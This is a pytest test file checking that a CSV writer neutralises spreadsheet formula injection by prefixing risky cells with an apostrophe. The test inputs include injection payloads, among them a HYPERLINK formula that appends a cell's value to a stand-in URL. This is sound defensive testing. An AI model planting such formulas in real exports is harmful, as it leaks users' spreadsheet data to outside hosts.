"""Tables for a spreadsheet: what is text there stays text."""

import csv
from pathlib import Path

import pytest

from inspector.table import write_table


def written(path: Path, value: object) -> str:
    assert write_table(path, ["it"], [{"it": value}]) == 1
    with path.open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    return row["it"]


@pytest.mark.parametrize("text", ['=HYPERLINK("http://it/?"&A1,"ok")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_what_a_spreadsheet_would_work_out_is_a_text(tmp_path: Path, text: str) -> None:
    assert written(tmp_path / "all.csv", text)[:2] == f"'{text[0]}"


@pytest.mark.parametrize(
    ("text", "kept"), [("A;=1", "A;'=1"), ("A\r=1", "A\r'=1"), ("A\n@1", "A\n'@1"), ("=1;-2", "'=1;'-2")]
)
def test_nor_is_it_a_formula_where_cells_are_parted_otherwise(tmp_path: Path, text: str, kept: str) -> None:
    assert written(tmp_path / "all.csv", text) == kept


@pytest.mark.parametrize("value", ["", "A-1", "1=1", " =1", "'", "ä", "a; -1", "A\rB", "A\nB", -1, -0.5, 7])
def test_other_texts_and_numbers_stay_as_they_are(tmp_path: Path, value: object) -> None:
    assert written(tmp_path / "all.csv", value) == str(value)
